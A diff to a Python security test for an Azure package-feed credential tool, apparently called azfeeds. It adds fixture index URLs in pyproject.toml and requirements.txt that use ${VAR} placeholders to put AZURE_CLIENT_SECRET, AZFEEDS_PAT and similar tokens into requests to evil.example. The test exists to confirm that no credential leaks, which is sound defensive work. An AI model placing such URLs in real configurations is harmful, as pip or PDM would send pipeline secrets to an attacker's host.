@@ -1,7 +1,8 @@
 """Credentials go only where the README ("Where a credential may go") allows.
 
 A scheduled job runs azfeeds on content that any pull request can change. The repository here
-holds look-alike and foreign index URLs next to one genuine cloud URL, and every cloud credential
+holds look-alike and foreign index URLs next to one genuine cloud URL (some of them with pip and
+PDM ``${VAR}`` placeholders that ask for the governed variables), and every cloud credential
 is set (``AZFEEDS_PAT``, ``AZURE_DEVOPS_EXT_PAT``, ``SYSTEM_ACCESSTOKEN`` with ``TF_BUILD``, a
 service principal whose token comes from a loopback fake Entra authority, an Azure CLI session,
 ``--pat-file``), each with a distinctive canary value.
@@ -92,13 +93,21 @@ def make_repository(root: Path, port: int) -> Path:
     extra = ",\n".join(f'    "{u}"' for u in urls[:6])
     (root / "pyproject.toml").write_text(
         '[project]\nname = "scheduled-job"\nversion = "1.0"\n\n'
-        f"[tool.uv]\nextra-index-url = [\n{extra},\n]\n{indexes}",
+        f"[tool.uv]\nextra-index-url = [\n{extra},\n]\n{indexes}"
+        # PDM expands ${VAR} in source URLs; these ask for variables azfeeds governs
+        '\n[[tool.pdm.source]]\nname = "pr-pdm"\n'
+        'url = "https://${AZURE_CLIENT_ID}:${AZURE_CLIENT_SECRET}@evil.example/p3/_packaging/f/pypi/simple/"\n'
+        '\n[[tool.pdm.source]]\nname = "pr-pdm2"\n'
+        f'url = "http://x:${{AZURE_DEVOPS_EXT_PAT}}@localhost:{port}/p4/_packaging/f/pypi/simple/"\n',
         encoding="utf-8",
     )
     (root / "requirements.txt").write_text(
         f"--index-url http://localhost:{port}/y/_packaging/f/pypi/simple/\n"
         "--extra-index-url https://evil.example/x/_packaging/f/pypi/simple/\n"
         "--extra-index-url https://pkgs.dev.azure.com.evil.example/orgA/ProjectX/_packaging/feedx/pypi/simple/\n"
+        # placeholders asking for the governed variables: pip would expand them, azfeeds never
+        "--extra-index-url https://x:${AZFEEDS_PAT}@evil.example/p1/_packaging/f/pypi/simple/\n"
+        f"--extra-index-url http://x:${{SYSTEM_ACCESSTOKEN}}@127.0.0.1:{port}/p2/_packaging/f/pypi/simple/\n"
         "alpha>=1\n",
         encoding="utf-8",
     )
